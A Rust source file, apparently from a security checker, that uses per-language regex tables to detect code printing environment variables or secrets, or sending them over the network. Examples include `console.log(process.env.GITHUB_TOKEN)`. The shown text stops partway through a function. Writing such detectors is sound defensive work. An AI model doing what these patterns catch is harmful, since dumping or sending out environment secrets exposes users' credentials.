//! Code that prints the environment or a variable holding a secret: `print(os.environ)`,
//! `console.log(process.env.GITHUB_TOKEN)`, `node -p process.env`, `puts ENV.to_h`, `print
//! %ENV`, `var_dump(getenv())`, awk's `for (k in ENVIRON) print k, ENVIRON[k]`. Each is judged
//! as the `printenv` (or `printenv NAME`) it amounts to.
//!
//! Every language is a table: how the code reads the environment (the whole mapping, one
//! variable by a literal name, one by a computed name), the calls that print, and the wrappers
//! that print no value (`len(…)`, `Object.keys(…)`, `'X' in os.environ`, `!!process.env.X`).
//! A name assigned such a read (`t = os.getenv('TOKEN')`), destructured from the environment
//! (`const { TOKEN } = process.env`), or bound to the values of a loop over it (`for k, v in
//! os.environ.items()`), prints it too.

use crate::language::Language;
use crate::patterns::CodePattern;
use std::ops::Range;
use std::sync::OnceLock;

/// How one language reads its environment and prints. Each pattern is a regular expression.
struct Model {
    language: Language,
    /// Words every read of the environment contains (`environ`, `getenv`): code with none of
    /// them reads nothing of it, and needs none of the patterns below compiled or run.
    read_words: &'static [&'static str],
    /// The environment as a mapping (`os.environ`, `process.env`, `ENV`, `%ENV`): its values
    /// when printed as it is, its names when iterated or tested (see `names_only`).
    mapping: &'static str,
    /// The environment with its values, however used (`os.environ.items()`, `getenv()`).
    values: &'static str,
    /// One variable read by a literal name, captured by the first group that matches.
    named: &'static str,
    /// One variable read by a name computed when the code runs (`os.environ[k]`): any of them.
    by_key: &'static str,
    /// A loop over the environment binding each value to the name the first group captures
    /// (`for k, v in os.environ.items()`, `ENV.each { |k, v| … }`).
    iterated: &'static str,
    /// Names bound by destructuring the environment (`const { TOKEN, KEY: k, ...rest } =
    /// process.env`): the first group captures the list between the braces.
    destructured: &'static str,
    /// Calls and statements that print what follows them.
    printers: &'static str,
    /// Calls and statements that send what follows them over the network, as an HTTP request's
    /// data, query or headers (`requests.post(`, `fetch(`, `Net::HTTP.post_form(`).
    senders: &'static str,
    /// Text just before a read of the mapping that makes it give names only (`list(`, `in `,
    /// `keys `, `Object.keys(`).
    names_only: &'static str,
    /// Text just before any read that prints no value of it (`len(`, `!!`, `isset(`).
    no_value_before: &'static str,
    /// Text just after any read that prints no value of it (`.length`, `== null`, `is None`).
    no_value_after: &'static str,
    /// Where a printed expression without parentheses ends.
    statement_end: &'static str,
    /// An end of a printed statement that sends it elsewhere than the terminal (awk's `print …
    /// > "file"`, `print … | "cmd"`).
    sent_elsewhere: &'static str,
}

const MODELS: &[Model] = &[
    Model {
        language: Language::Python,
        read_words: &["environ", "getenv"],
        mapping: r"\bos\.environb?\b",
        values: r"\bos\.environb?\s*\.\s*(?:copy|items|values)\s*\(\s*\)",
        named: r#"\bos\.environb?\s*\[\s*[rbu]?['"](\w+)['"]\s*\]|\bos\.(?:environb?\s*\.\s*get|getenvb?)\s*\(\s*[rbu]?['"](\w+)['"][^)]*\)"#,
        by_key: r#"\bos\.environb?\s*\[\s*[^\s'"\]]|\bos\.(?:environb?\s*\.\s*get|getenvb?)\s*\(\s*[^\s'")]"#,
        iterated: r"\bfor\s+\w+\s*,\s*(\w+)\s+in\s+os\.environb?\s*\.\s*items\s*\(\s*\)|\bfor\s+(\w+)\s+in\s+os\.environb?\s*\.\s*values\s*\(\s*\)",
        destructured: r"\z.",
        printers: r"\b(?:print|pprint\.pprint|pprint|pp|sys\.stdout\.write|sys\.stderr\.write)\s*\(",
        // A socket's `send` too: `socket.create_connection((host, 80)).send(…)`.
        senders: r"\b(?:requests|httpx|session|client|http|urllib3|pool|aiohttp)\s*\.\s*(?:post|put|patch|get|delete|request|stream|urlopen)\s*\(|\b(?:urlopen|Request)\s*\(|\.\s*(?:request|putrequest|sendall|sendto|send)\s*\(",
        // `[*os.environ]` unpacks the names; `{**os.environ}` and `f(**os.environ)` the values.
        names_only: r"(?:\bin|\b(?:list|sorted|set|tuple|frozenset|enumerate)\s*\(|(?:\A|[^*])\*)\s*\z",
        no_value_before: r"(?:\b(?:len|bool|hash|any|all|callable|type)\s*\(|\bnot\s+)\s*\z",
        no_value_after: r"\A\s*(?:\bis\b|\bin\b|==|!=|\.\s*(?:keys|startswith|endswith)\b)",
        statement_end: r"[;\n]",
        sent_elsewhere: r"\z.",
    },
    Model {
        language: Language::JavaScript,
        read_words: &["env"],
        mapping: r"\b(?:process|Bun)\.env\b",
        values: r"\bDeno\.env\.toObject\s*\(\s*\)",
        named: r#"\b(?:process|Bun)\.env\.([A-Za-z_]\w*)|\b(?:process|Bun)\.env\s*\[\s*['"`](\w+)['"`]\s*\]|\bDeno\.env\.get\s*\(\s*['"`](\w+)['"`]\s*\)"#,
        by_key: r#"\b(?:process|Bun)\.env\s*\[\s*[^\s'"`\]]|\bDeno\.env\.get\s*\(\s*[^\s'"`)]"#,
        iterated: r"\[\s*\w+\s*,\s*(\w+)\s*\]\s*of\s+Object\.entries\s*\(\s*(?:process|Bun)\.env\s*\)|\bObject\.entries\s*\(\s*(?:process|Bun)\.env\s*\)\s*\.\s*(?:forEach|map|filter|flatMap)\s*\(\s*(?:function\s*)?\(\s*\[\s*\w+\s*,\s*(\w+)\s*\]",
        destructured: r"\b(?:const|let|var)\s*\{([^}]*)\}\s*=\s*(?:process|Bun)\.env\b",
        printers: r"\b(?:console\.(?:log|info|warn|error|debug|dir|table|trace)|process\.std(?:out|err)\.write)\s*\(",
        senders: r#"\bfetch\s*\(|(?:\baxios|\brequire\s*\(\s*['"]axios['"]\s*\))(?:\s*\.\s*(?:post|put|patch|get|delete|request))?\s*\(|\bgot(?:\s*\.\s*(?:post|put|patch|get))?\s*\(|\b(?:https?|require\s*\(\s*['"](?:node:)?https?['"]\s*\))\s*\.\s*(?:request|get)\s*\([^;\n]*?\)\s*\.\s*(?:write|end)\s*\(|\b(?:https?|require\s*\(\s*['"](?:node:)?https?['"]\s*\))\s*\.\s*(?:request|get)\s*\(|\b(?:r|\w*req|\w*request)\s*\.\s*(?:write|end)\s*\(|\b(?:net|tls|require\s*\(\s*['"](?:node:)?(?:net|tls)['"]\s*\))\s*\.\s*(?:connect|createConnection)\s*\([^;\n]*?\)\s*\.\s*(?:write|end)\s*\(|\b(?:s|\w*[sS]ock(?:et)?|\w*[cC]onn(?:ection)?)\s*\.\s*(?:write|end)\s*\("#,
        names_only: r"(?:\bObject\.(?:keys|getOwnPropertyNames)\s*\(|\bin|\bReflect\.ownKeys\s*\()\s*\z",
        no_value_before: r"(?:!|\btypeof|\bBoolean\s*\(|\bin)\s*\z",
        no_value_after: r"\A\s*(?:\.\s*(?:length|startsWith|endsWith|includes)\b|[!=]==?|&&|\?[^?.]|<|>)",
        statement_end: r"[;\n]",
        sent_elsewhere: r"\z.",
    },
    Model {
        language: Language::Ruby,
        read_words: &["ENV"],
        mapping: r"\bENV\b",
        values: r"\bENV\s*\.\s*(?:to_h|to_hash|to_a|inspect|to_s|dup|clone|sort|values|entries|invert)\b(?:\s*\(\s*\))?",
        named: r#"\bENV\s*\[\s*['"](\w+)['"]\s*\]|\bENV\s*\.\s*fetch\s*\(?\s*['"](\w+)['"][^)\n]*\)?"#,
        by_key: r#"\bENV\s*\[\s*[^\s'"\]]|\bENV\s*\.\s*fetch\s*\(?\s*[^\s'"(]"#,
        iterated: r"\bENV\s*\.\s*(?:to_h\s*\.\s*)?(?:each|each_pair|map|flat_map|select|filter|filter_map|reject|sort_by|each_with_object)\s*(?:\([^)]*\)\s*)?(?:\{|\bdo\b)\s*\|\s*\(?\s*\w+\s*,\s*(\w+)",
        destructured: r"\z.",
        printers: r"(?:^|[^.:\w$@])(?:puts|print|pp|p|warn|printf|display)\b|(?:\$std(?:out|err)|\bSTD(?:OUT|ERR))\s*\.\s*(?:puts|print|write)\b",
        senders: r"\bNet::HTTP\s*\.\s*(?:post|post_form|get|get_response|start)\s*\(|\b(?:HTTParty|RestClient|Faraday|HTTPX|HTTP)\s*\.\s*(?:post|put|patch|get|delete)\s*\(|\.\s*(?:body|set_form_data)\s*=|\.\s*(?:post|put|request)\s*\(|\bURI\s*\.\s*open\s*\(",
        names_only: r"\z.",
        no_value_before: r"(?:!|\bdefined\?\s*\(?)\s*\z",
        no_value_after: r"\A\s*(?:\.\s*(?:nil\?|empty\?|length|size|present\?|blank\?|start_with\?|end_with\?)|[!=]=|\?\s)",
        statement_end: r"[;\n]",
        sent_elsewhere: r"\z.",
    },
    Model {
        language: Language::Perl,
        read_words: &["ENV"],
        mapping: r"%ENV\b",
        values: r"\bvalues\s*\(?\s*%ENV\b|\beach\s*\(?\s*%ENV\b",
        named: r#"\$ENV\s*\{\s*['"]?(\w+)['"]?\s*\}"#,
        by_key: r#"\$ENV\s*\{\s*[^\s'"\w}]"#,
        iterated: r"\bmy\s*\(\s*\$\w+\s*,\s*(\$\w+)\s*\)\s*=\s*each\s*\(?\s*%ENV\b",
        destructured: r"\z.",
        printers: r"\b(?:print|say|printf|warn|die)\b",
        senders: r"->\s*(?:post|put|get|request|post_form)\s*\(|\b(?:get|post|head)\s*\(|\bPOST\s*\(|\bHTTP::Request\s*->\s*new\s*\(",
        names_only: r"\b(?:keys|exists|scalar)\s*\(?\s*\\?\z",
        no_value_before: r"\b(?:defined|exists|length)\s*\(?\s*\z",
        no_value_after: r"\A\s*(?:\b(?:eq|ne)\b|[!=]=)",
        statement_end: r";",
        sent_elsewhere: r"\z.",
    },
    Model {
        language: Language::Php,
        read_words: &["ENV", "SERVER", "getenv"],
        mapping: r"\$_(?:ENV|SERVER)\b",
        values: r"\bgetenv\s*\(\s*\)",
        named: r#"\$_(?:ENV|SERVER)\s*\[\s*['"](\w+)['"]\s*\]|\bgetenv\s*\(\s*['"](\w+)['"][^)]*\)"#,
        by_key: r#"\$_(?:ENV|SERVER)\s*\[\s*\$|\bgetenv\s*\(\s*\$"#,
        iterated: r"\bforeach\s*\(\s*(?:getenv\s*\(\s*\)|\$_(?:ENV|SERVER))\s+as\s+\$\w+\s*=>\s*(\$\w+)",
        destructured: r"\z.",
        printers: r"\b(?:echo|print|var_dump|print_r|var_export|printf|vprintf|debug_zval_dump|error_log)\b|\bf(?:write|puts)\s*\(\s*STD(?:OUT|ERR)\b",
        senders: r#"\bcurl_setopt(?:_array)?\s*\(|\bcurl_init\s*\(|\bfile_get_contents\s*\(|\bstream_context_create\s*\(|\bfopen\s*\(\s*['"]https?:"#,
        names_only: r"\b(?:array_keys|count)\s*\(\s*\z",
        no_value_before: r"(?:\b(?:isset|empty|strlen|is_null|boolval|is_string)\s*\(|!)\s*\z",
        no_value_after: r"\A\s*(?:[!=]==?)",
        statement_end: r";",
        sent_elsewhere: r"\z.",
    },
    Model {
        language: Language::Lua,
        read_words: &["getenv"],
        mapping: r"\z.",
        values: r"\z.",
        named: r#"\bos\.getenv\s*\(?\s*['"](\w+)['"]\s*\)?"#,
        by_key: r#"\bos\.getenv\s*\(\s*[^\s'")]"#,
        iterated: r"\z.",
        destructured: r"\z.",
        printers: r"\b(?:print|io\.write|io\.stdout\s*:\s*write|io\.stderr\s*:\s*write)\s*\(",
        senders: r"\bhttp\s*\.\s*request\s*\(",
        names_only: r"\z.",
        no_value_before: r"(?:#|\bnot\s+)\s*\z",
        no_value_after: r"\A\s*(?:[~=]=)",
        statement_end: r"[;\n]",
        sent_elsewhere: r"\z.",
    },
    Model {
        language: Language::Awk,
        read_words: &["ENVIRON"],
        mapping: r"\bENVIRON\b",
        values: r"\z.",
        named: r#"\bENVIRON\s*\[\s*"(\w+)"\s*\]"#,
        by_key: r#"\bENVIRON\s*\[\s*[^\s"\]]"#,
        iterated: r"\z.",
        destructured: r"\z.",
        printers: r"\bprintf?\b",
        senders: r"\z.",
        names_only: r"\bin\s*\z",
        no_value_before: r"\blength\s*\(?\s*\z",
        no_value_after: r"\A\s*(?:[!=]=|~|!~)",
        // `print … > "file"` and `print … | "cmd"` send it elsewhere: the text before is what
        // a print to the terminal shows.
        statement_end: r"[;\n}>|]",
        sent_elsewhere: r"[>|]",
    },
];

/// A model's patterns, made once, each compiled when first matched.
struct Compiled {
    mapping: CodePattern,
    values: CodePattern,
    named: CodePattern,
    by_key: CodePattern,
    iterated: CodePattern,
    destructured: CodePattern,
    names_only: CodePattern,
    no_value_before: CodePattern,
    no_value_after: CodePattern,
    statement_end: CodePattern,
    sent_elsewhere: CodePattern,
    assignment: CodePattern,
}

/// The model of the language at `index` of `MODELS` compiled, the first time that language is
/// read. Compiling every language's patterns at once took most of a hook call that met a
/// one-liner of any of them.
fn compiled(index: usize) -> &'static Compiled {
    static COMPILED: [OnceLock<Compiled>; MODELS.len()] = [const { OnceLock::new() }; MODELS.len()];
    COMPILED[index].get_or_init(|| compile(&MODELS[index]))
}

/// The printers of the language at `index` of `MODELS`, compiled apart from the rest of its
/// model: code that prints nothing needs no more of it.
fn printers(index: usize) -> &'static CodePattern {
    static PRINTERS: [OnceLock<CodePattern>; MODELS.len()] = [const { OnceLock::new() }; MODELS.len()];
    PRINTERS[index].get_or_init(|| CodePattern::owned(format!("(?m){}", MODELS[index].printers)))
}

/// The network calls of the language at `index` of `MODELS` that send data, compiled apart
/// from the rest of its model: code that sends nothing needs no more of it.
fn senders(index: usize) -> &'static CodePattern {
    static SENDERS: [OnceLock<CodePattern>; MODELS.len()] = [const { OnceLock::new() }; MODELS.len()];
    SENDERS[index].get_or_init(|| CodePattern::new(MODELS[index].senders))
}

fn compile(model: &Model) -> Compiled {
    let pattern = CodePattern::new;
    Compiled {
        mapping: pattern(model.mapping),
        values: pattern(model.values),
        named: pattern(model.named),
        by_key: pattern(model.by_key),
        iterated: pattern(model.iterated),
        destructured: pattern(model.destructured),
        names_only: pattern(model.names_only),
        no_value_before: pattern(model.no_value_before),
        no_value_after: pattern(model.no_value_after),
        statement_end: pattern(model.statement_end),
        sent_elsewhere: pattern(model.sent_elsewhere),
        // `t = …`, `const t = …`, `my $t = …`, `local t = …`: the name, then the value.
        assignment: pattern(r"(?m)(?:^|[;{(]|\b(?:const|let|var|my|our|local)\b)\s*(\$?[A-Za-z_]\w*)\s*=[^=~>]"),
    }
}

/// What the code prints: the whole environment (`None`) or the variable named.
#[derive(Clone, Debug, PartialEq)]
pub struct Printed {
    /// The call that prints it (`print`, `console.log`, or the code's value for `node -p`).
    pub call: String,
    pub variable: Option<String>,
    pub at: Range<usize>,
}

/// A read of the environment found in the code: where it is and what it gives.
struct Read {
    at: Range<usize>,
    variable: Option<String>,
}

/// The index in `MODELS` of the model of `language`, when `code` may read the environment:
/// code without any of the model's read words needs none of its patterns.
fn model_reading(language: Language, code: &str) -> Option<usize> {
    let language = if language == Language::IPython {
        Language::Python
    } else {
        language
    };
    let index = MODELS.iter().position(|model| model.language == language)?;
    MODELS[index]
        .read_words
        .iter()
        .any(|word| code.contains(word))
        .then_some(index)
}

/// What `code` in `language` prints of the environment, if it prints a value of it;
/// `prints_value`: the interpreter prints the code's value (`node -p`).
pub fn printed(language: Language, code: &str, prints_value: bool) -> Option<Printed> {
    let index = model_reading(language, code)?;
    let canonical = Canonical::of(language, code);
    let printers = printers(index);
    if !prints_value && !printers.is_match(&canonical.text) {
        return None;
    }
    let printed = printed_in(compiled(index), printers, senders(index), &canonical.text, prints_value)?;
    Some(Printed {
        at: canonical.original(printed.at.start)..canonical.original(printed.at.end),
        ..printed
    })
}

/// [`printed`] for code that names the environment as the model does.
fn printed_in(
    model: &Compiled,
    printers: &CodePattern,
    senders: &CodePattern,
    code: &str,
    prints_value: bool,
) -> Option<Printed> {
    let reads = reads(model, code);
    let tainted = tainted(model, code, &reads);
    let mut regions: Vec<(String, Range<usize>)> = Vec::new();
    if prints_value {
        regions.push(("the code's value".to_owned(), 0..code.len()));
    }
    for (call, region) in calls(model, printers, code) {
        if model
            .sent_elsewhere
            .is_match(&code[region.end..code.len().min(region.end + 1)])
        {
            continue;
        }
        regions.push((call, region));
    }
    // A secret that authenticates a request whose answer is printed
    // (`print(requests.get(u, headers={'Authorization': token}).json())`) is not printed.
    let requests = calls(model, senders, code);
    let printed = |at: usize| {
        !requests
            .iter()
            .any(|(_, request)| request.contains(&at) && authenticates(code, request.start, at))
    };
    regions.into_iter().find_map(|(call, region)| {
        let (variable, _) = shown_in(model, code, &reads, &tainted, &region, printed)?;
        Some(Printed {
            call,
            variable,
            at: region,
        })
    })
}

/// What the code sends of the environment in a network request, and where: the whole of it
/// (`variable` `None`) or the variable named, to each address written in the call or, when the
/// call names none, anywhere in the code.
#[derive(Clone, Debug, PartialEq)]
pub struct Sent {
    pub call: String,
    pub variable: Option<String>,
    pub at: Range<usize>,
    /// The addresses it may go to (`https://host/…`); none when the code writes none.
    pub urls: Vec<String>,
    /// Whether the variable is the request's own credential (a header, `auth=`, a cookie) rather
    /// than its data.
    pub credential: bool,
    /// The header the credential goes in, when the code names it among the request's headers
    /// (`headers={'X-Api-Key': …}`): a header of the service's own, or one that carries data;
    /// `None` for `auth=`, a cookie, or a header the code does not name.
    pub header: Option<String>,
}

/// What `code` in `language` sends of the environment in a request: as its data, or else a
/// variable given as the request's own credential (a header, `auth=`, a cookie), which the
/// checkers judge as a credential.
pub fn sent(language: Language, code: &str) -> Vec<Sent> {
    let Some(index) = model_reading(language, code) else {
        return Vec::new();
    };
    let canonical = Canonical::of(language, code);
    let code = canonical.text.as_str();
    let senders = senders(index);
    if !senders.is_match(code) {
        return Vec::new();
    }
    let model = compiled(index);
    let reads = reads(model, code);
    if reads.is_empty() {
        return Vec::new();
    }
    let tainted = tainted(model, code, &reads);
    let everywhere = addresses(code, 0..code.len());
    calls(model, senders, code)
        .into_iter()
        .filter_map(|(call, region)| {
            let data = shown_in(model, code, &reads, &tainted, &region, |at| {
                !authenticates(code, region.start, at)
            });
            let credential = || {
                shown_in(model, code, &reads, &tainted, &region, |at| {
                    authenticates(code, region.start, at)
                })
                .filter(|(variable, _)| variable.is_some())
            };
            let (variable, credential, header) = match data {
                Some((variable, _)) => (variable, false, None),
                None => {
                    let (variable, at) = credential()?;
                    (variable, true, header_named(code, region.start, at))
                }
            };
            let urls = match addresses(code, region.clone()) {
                urls if urls.is_empty() => everywhere.clone(),
                urls => urls,
            };
            Some(Sent {
                call,
                variable,
                at: canonical.original(region.start)..canonical.original(region.end),
                urls,
                credential,
                header,
            })
        })
        .collect()
}

/// The names the code binds to a read of the environment, with the variable each holds
/// (`None`: all of them): `t = os.getenv('TOKEN')`, `const { TOKEN } = process.env`, the values
/// of a loop over it.
fn tainted(model: &Compiled, code: &str, reads: &[Read]) -> Vec<(String, Option<String>)> {
    let mut tainted = Vec::new();
    for found in model.assignment.captures_iter(code) {
        let (Some(name), Some(whole)) = (found.get(1), found.get(0)) else {
            continue;
        };
        let value = whole.end() - 1..statement_end(model, code, whole.end() - 1);
        if let Some(read) = reads.iter().find(|read| within(&read.at, &value)) {
            tainted.push((name.as_str().to_owned(), read.variable.clone()));
        }
    }
    for found in model.destructured.captures_iter(code) {
        let Some(list) = found.get(1) else { continue };
        for item in list.as_str().split(',') {
            let item = item.split('=').next().unwrap_or("").trim();
            if let Some(rest) = item.strip_prefix("...") {
                tainted.push((rest.trim().to_owned(), None));
            } else if let Some((name, alias)) = item.split_once(':').or(Some((item, item)))
                && crate::producers::is_secret_name(name.trim())
            {
                tainted.push((alias.trim().to_owned(), Some(name.trim().to_owned())));
            }
        }
    }
    for found in model.iterated.captures_iter(code) {
        if let Some(name) = found.iter().skip(1).flatten().next() {
            tainted.push((name.as_str().to_owned(), None));
        }
    }
    tainted
}

/// Each call `pattern` finds in `code`, by name, with the text it takes: its arguments, or the
/// rest of the statement when it takes them without parentheses.
fn calls(model: &Compiled, pattern: &CodePattern, code: &str) -> Vec<(String, Range<usize>)> {
    pattern
        .find_iter(code)
        .map(|found| {
            let call = found
                .as_str()
                .trim_start_matches(|c: char| !c.is_alphanumeric() && c != '$')
                .trim_end_matches(|c: char| c == '(' || c == '=' || c.is_whitespace());
            let region = if found.as_str().ends_with('(') {
                found.end()..closing(code, found.end())
            } else {
                found.end()..statement_end(model, code, found.end())
            };
            (call.to_owned(), region)
        })
        .collect()
}

/// The variable (`None`: the whole environment) whose value `region` uses, through a read or a
/// name bound to one, at a place `counts` accepts, and where it is used.
fn shown_in(
    model: &Compiled,
    code: &str,
    reads: &[Read],
    tainted: &[(String, Option<String>)],
    region: &Range<usize>,
    counts: impl Fn(usize) -> bool,
) -> Option<(Option<String>, usize)> {
    let read = reads
        .iter()
        .find(|read| within(&read.at, region) && counts(read.at.start))
        .map(|read| (read.variable.clone(), read.at.start));
    read.or_else(|| {
        tainted
            .iter()
            .find_map(|(name, variable)| Some((variable.clone(), uses(model, code, region, name, &counts)?)))
    })
}

/// Keys under which a request carries its own credentials (`headers=`, `auth:`, `'Cookie':`,
/// PHP's `CURLOPT_HTTPHEADER`), just before a value or a bracket holding it.
static CREDENTIAL_KEY: CodePattern = CodePattern::new(
    r#"(?i)(?:\b(?:headers?|auth\w*|authorization|cookies?|bearer|basic_auth|token_auth|proxy\w*|user(?:name)?|CURLOPT_(?:HTTPHEADER|USERPWD|COOKIE|XOAUTH2_BEARER)|x-api-key|api-key|private-token)\b['"]?\s*(?:=>|[=:,])|['"]Bearer |\.(?:basic_auth|headers?|auth)\s*\(|\[\s*['"](?:Authorization|Cookie)['"]\s*\]\s*=)[^,;]*\z"#,
);

/// Whether the value at `at` is one of a request's credentials: it, or a bracket enclosing it
/// inside the call's arguments from `start`, follows a credential key in its own argument.
fn authenticates(code: &str, start: usize, at: usize) -> bool {
    let mut outermost_end = at;
    for (position, _, element) in elements_around(code, start, at) {
        if CREDENTIAL_KEY.is_match(element) {
            return true;
        }
        outermost_end = position;
    }
    CREDENTIAL_KEY.is_match(&code[start..outermost_end])
}

/// The header a credential at `at` goes in, when the code names it as the key of its entry in
/// a mapping given as the request's headers (`headers={'X-Api-Key': v}`, `{headers:
/// {"x-api-key": v}}`, Ruby's `headers: {'X-Api-Key' => v}`): the innermost keyed entry around
/// the value, in the first mapping that encloses it.
fn header_named(code: &str, start: usize, at: usize) -> Option<String> {
    static ENTRY_KEY: CodePattern = CodePattern::new(r#"\A\s*['"`]?([A-Za-z][\w-]*)['"`]?\s*(?:=>|:)"#);
    static HEADERS: CodePattern = CodePattern::new(r#"(?i)\bheaders['"`]?\s*(?:=>|[=:])\s*\z"#);
    let mut key: Option<&str> = None;
    for (position, opener, element) in elements_around(code, start, at) {
        // Brackets inside the value (`f'Bearer {…}'`, `str(…)`) come before its key.
        key = key.or_else(|| {
            ENTRY_KEY
                .captures_iter(element)
                .next()
                .and_then(|found| found.get(1))
                .map(|name| name.as_str())
        });
        match opener {
            '{' if key.is_some() => {
                return key
                    .filter(|_| HEADERS.is_match(&code[start..position]))
                    .map(str::to_owned);
            }
            '(' | '[' if key.is_some() => return None,
            _ => {}
        }
    }
    None
}

/// The elements of the code from `start` that hold `at`, innermost first: for each bracket or
/// comma that begins one at the level of `at` (brackets closed before `at` are skipped whole),
/// its position, the character, and the element's text after it.
fn elements_around(code: &str, start: usize, at: usize) -> impl Iterator<Item = (usize, char, &str)> {
    let mut depth = 0usize;
    let mut element_end = at;
    code[start..at].char_indices().rev().filter_map(move |(offset, c)| {
        let position = start + offset;
        match c {
            ')' | ']' | '}' => depth += 1,
            '(' | '[' | '{' if depth > 0 => depth -= 1,
            '(' | '[' | '{' | ',' => {
                let element = &code[position + 1..element_end];
                element_end = position;
                return Some((position, c, element));
            }
            _ => {}
        }
        None
    })
}

/// The web addresses written in `region` of `code`: `https://…` literals, and the hosts given
/// to a connection (`HTTPSConnection('host')`, `hostname: 'host'`), a socket's too
/// (`socket.create_connection(('host', 80))`, `net.connect(80, 'host')`).
fn addresses(code: &str, region: Range<usize>) -> Vec<String> {
    static ADDRESS: CodePattern = CodePattern::new(
        r#"(https?://[^\s'"`)\]}<>]+)|\b(?:HTTPS?Connection|hostname|host)\s*[(:=]\s*['"]([^'"\s/]+)|\b(?:create_connection|connect(?:_ex)?|createConnection)\s*\(\s*(?:\(\s*|\d+\s*,\s*)['"]([^'"\s/]+)"#,
    );
    ADDRESS
        .captures_iter(&code[region])
        .filter_map(|found| match (found.get(1), found.get(2).or(found.get(3))) {
            (Some(url), _) => Some(url.as_str().to_owned()),
            (None, Some(host)) => Some(format!("https://{}/", host.as_str())),
            _ => None,
        })
        .collect()
}

/// A binding of the environment, or of the module or object that holds it, to another name:
/// the pattern, and what the name stands for. The first group that matches captures the name,
/// or a list of `NAME [as|: ALIAS]` items from which the names of `members` are taken.
struct Binding {
    pattern: &'static str,
    stands_for: &'static str,
    members: &'static [&'static str],
}

/// Bindings by language: Python's `import os as o`, `from os import environ as e`; JavaScript's
/// `const p = process`, `const { env } = process`, `import { env } from 'node:process'`.
const BINDINGS: &[(Language, Binding)] = &[
    (
        Language::Python,
        Binding {
            pattern: r"\bimport\s+(?:[\w.]+(?:\s+as\s+\w+)?\s*,\s*)*os\s+as\s+(\w+)",
            stands_for: "os",
            members: &[],
        },
    ),
    (
        Language::Python,
        Binding {
            pattern: r"\bfrom\s+os\s+import\s+(?:\(([^)]*)\)|([\w \t,*]+))",
            stands_for: "os.",
            members: &["environ", "environb", "getenv", "getenvb"],
        },
    ),
    (
        Language::JavaScript,
        Binding {
            pattern: r#"\b(?:const|let|var)\s+(\w+)\s*=\s*(?:(?:globalThis|global)\s*\.\s*process|process|require\s*\(\s*['"](?:node:)?process['"]\s*\))\s*(?:[;\n]|\z)"#,
            stands_for: "process",
            members: &[],
        },
    ),
    (
        Language::JavaScript,
        Binding {
            pattern: r#"\bimport\s+(?:\*\s*as\s+)?(\w+)\s+from\s*['"](?:node:)?process['"]"#,
            stands_for: "process",
            members: &[],
        },
    ),
    (
        Language::JavaScript,
        Binding {
            pattern: r#"\b(?:const|let|var)\s*\{([^}]*)\}\s*=\s*(?:(?:globalThis|global)\s*\.\s*process|process|require\s*\(\s*['"](?:node:)?process['"]\s*\))"#,
            stands_for: "process.",
            members: &["env"],
        },
    ),
    (
        Language::JavaScript,
        Binding {
            pattern: r#"\bimport\s*\{([^}]*)\}\s*from\s*['"](?:node:)?process['"]"#,
            stands_for: "process.",
            members: &["env"],
        },
    ),
];

/// Expressions that give the module itself, replaced by its name: `__import__('os')`,
/// `importlib.import_module('os')`.
const MODULE_EXPRESSIONS: &[(Language, &str, &str)] = &[(
    Language::Python,
    r#"\b(?:__import__|importlib\s*\.\s*import_module)\s*\(\s*['"]os['"]\s*\)"#,
    "os",
)];

/// The patterns of `BINDINGS` and `MODULE_EXPRESSIONS`, each compiled the first time code of
/// its language is read.
static COMPILED_BINDINGS: [OnceLock<CodePattern>; BINDINGS.len()] = [const { OnceLock::new() }; BINDINGS.len()];
static COMPILED_MODULE_EXPRESSIONS: [OnceLock<CodePattern>; MODULE_EXPRESSIONS.len()] =
    [const { OnceLock::new() }; MODULE_EXPRESSIONS.len()];

/// The bindings of `language`, each with its pattern compiled.
fn bindings(language: Language) -> impl Iterator<Item = (&'static CodePattern, &'static Binding)> {
    BINDINGS
        .iter()
        .zip(&COMPILED_BINDINGS)
        .filter(move |((of, _), _)| *of == language)
        .map(|((_, binding), compiled)| {
            let pattern = compiled.get_or_init(|| CodePattern::new(binding.pattern));
            (pattern, binding)
        })
}

/// The module expressions of `language`, each with its pattern compiled, and the module's name.
fn module_expressions(language: Language) -> impl Iterator<Item = (&'static CodePattern, &'static str)> {
    MODULE_EXPRESSIONS
        .iter()
        .zip(&COMPILED_MODULE_EXPRESSIONS)
        .filter(move |((of, _, _), _)| *of == language)
        .map(|((_, pattern, name), compiled)| {
            let pattern = compiled.get_or_init(|| CodePattern::new(pattern));
            (pattern, *name)
        })
}

/// Code rewritten to name the environment as the models do (`o.environ` of `import os as o`
/// becomes `os.environ`), with where each place of the rewritten text was in the code.
struct Canonical {
    text: String,
    /// Each replacement: its start in the rewritten text, its end there, and the range it
    /// replaced in the code.
    replaced: Vec<(usize, usize, Range<usize>)>,
}

impl Canonical {
    fn of(language: Language, code: &str) -> Canonical {
        let mut replacements: Vec<(Range<usize>, String)> = Vec::new();
        for (pattern, name) in module_expressions(language) {
            replacements.extend(pattern.find_iter(code).map(|found| (found.range(), name.to_owned())));
        }
        let mut statements = Vec::new();
        let mut aliases: Vec<(String, String)> = Vec::new();
        for (pattern, binding) in bindings(language) {
            for found in pattern.captures_iter(code) {
                let (Some(whole), Some(bound)) = (found.get(0), found.iter().skip(1).flatten().next()) else {
                    continue;
                };
                statements.push(whole.range());
                if binding.members.is_empty() {
                    aliases.push((bound.as_str().to_owned(), binding.stands_for.to_owned()));
                    continue;
                }
                for item in bound.as_str().split(',') {
                    let words: Vec<&str> = item.split([' ', '\t', '\n', ':']).filter(|w| !w.is_empty()).collect();
                    let (member, alias) = match words.as_slice() {
                        [member] => (*member, *member),
                        [member, "as", alias] | [member, alias] => (*member, *alias),
                        _ => continue,
                    };
                    let members: Vec<&str> = match member {
                        "*" => binding.members.to_vec(),
                        member if binding.members.contains(&member) => vec![member],
                        _ => continue,
                    };
                    for member in members {
                        let alias = if alias == "*" { member } else { alias };
                        aliases.push((alias.to_owned(), format!("{}{member}", binding.stands_for)));
                    }
                }
            }
        }
        let word = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
        for (alias, stands_for) in aliases.iter().filter(|(alias, stands_for)| alias != stands_for) {
            for (at, _) in code.match_indices(alias.as_str()) {
                let end = at + alias.len();
                let before = code[..at].chars().next_back();
                let after = code[end..].chars().next();
                let standalone = !before.is_some_and(|c| word(c) || c == '.') && !after.is_some_and(word);
                let in_binding = statements.iter().any(|statement| statement.contains(&at));
                if standalone && !in_binding {
                    replacements.push((at..end, stands_for.clone()));
                }
            }
        }
        replacements.sort_by_key(|(range, _)| range.start);
        let mut text = String::with_capacity(code.len());
        let mut replaced = Vec::new();
        let mut copied = 0;
        for (range, replacement) in replacements {
